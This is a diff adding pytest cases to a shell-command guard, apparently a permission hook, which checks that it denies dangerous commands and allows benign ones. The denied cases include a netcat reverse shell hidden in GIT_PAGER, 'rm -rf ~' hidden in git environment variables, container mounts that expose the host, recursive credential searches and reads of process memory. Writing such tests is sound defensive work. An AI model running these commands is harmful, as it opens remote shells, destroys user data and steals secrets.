@@ -172,6 +172,54 @@ def test_a_command_word_spelt_as_braces_or_a_glob_is_the_command_it_names(comman
     assert pack(command) == decision, command
 
 
+@inprocess
+@pytest.mark.parametrize(("command", "decision"), [
+    ("export GIT_PAGER='nohup nc -e /bin/sh 10.0.0.1 4242 >/dev/null 2>&1 & less'", "deny"),
+    ("export GIT_SSH_COMMAND='rm -rf ~'", "deny"),
+    ("declare -x GIT_EDITOR='rm -rf ~'", "deny"),
+    ("export GIT_PAGER=cat", "allow"),
+    ("export GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes'", "allow"),
+    ("export GIT_EDITOR='code --wait'", "allow"),
+])
+def test_git_code_exported_for_the_session_is_judged_as_the_code_it_is(command: str, decision: str) -> None:
+    assert pack(command) == decision, command
+
+
+@inprocess
+@pytest.mark.parametrize(("command", "decision"), [
+    ("lxc config device add c d disk source=/ path=/mnt/root recursive=true", "deny"),
+    ("incus config device add c d disk source=/etc path=/mnt/etc", "deny"),
+    ("lxc init myimage c -c security.privileged=true", "deny"),
+    ("lxc config set c security.privileged true", "deny"),
+    ("lxc config device add c code disk source=/home/user/project path=/src", "allow"),
+    ("lxc launch ubuntu:24.04 dev", "allow"),
+    ("lxc exec dev -- bash", "allow"),
+    ("lxc list", "allow"),
+])
+def test_a_system_container_given_the_host(command: str, decision: str) -> None:
+    assert decide("machine_wide", command) == decision, command
+
+
+@inprocess
+@pytest.mark.parametrize(("command", "decision"), [
+    ("grep --color=auto -rnw '/' -ie \"PASSWORD\" --color=always 2> /dev/null", "deny"),
+    ("grep -rni api_key ~", "deny"),
+    ("rg -i 'secret' /", "deny"),
+    ("strings /dev/mem -n10 | grep -i PASS", "deny"),
+    ("cat /proc/1234/mem", "deny"),
+    ("find ~ -name '.env*' | xargs cat", "deny"),
+    ("find ~ -name '.env*' | xargs ls -l", "allow"),               # names and sizes
+    ("grep -rn TODO ~/notes", "allow"),
+    ("grep -rn password src/", "allow"),                          # the project's own code
+    ("grep -rn 'password' docs/ /home/user/project", "allow"),
+    ("grep -i password /etc/login.defs", "allow"),                # one file, not recursive
+    ("rg -i token src/", "allow"),
+    ("find . -name '*.py' | xargs grep -l requests", "allow"),
+])
+def test_secrets_searched_for_everywhere_in_memory_or_through_find(command: str, decision: str) -> None:
+    assert decide("secret_files", command) == decision, command
+
+
 def test_an_ifs_disguise_through_the_installed_executable(project: Project) -> None:
     assert forge_hook(project, "guard", "test", "secret_files", "--", "cat${IFS}.env").exit_status == 1
     assert forge_hook(project, "guard", "test", "secret_files", "--", "cat${IFS}README.md").exit_status == 0
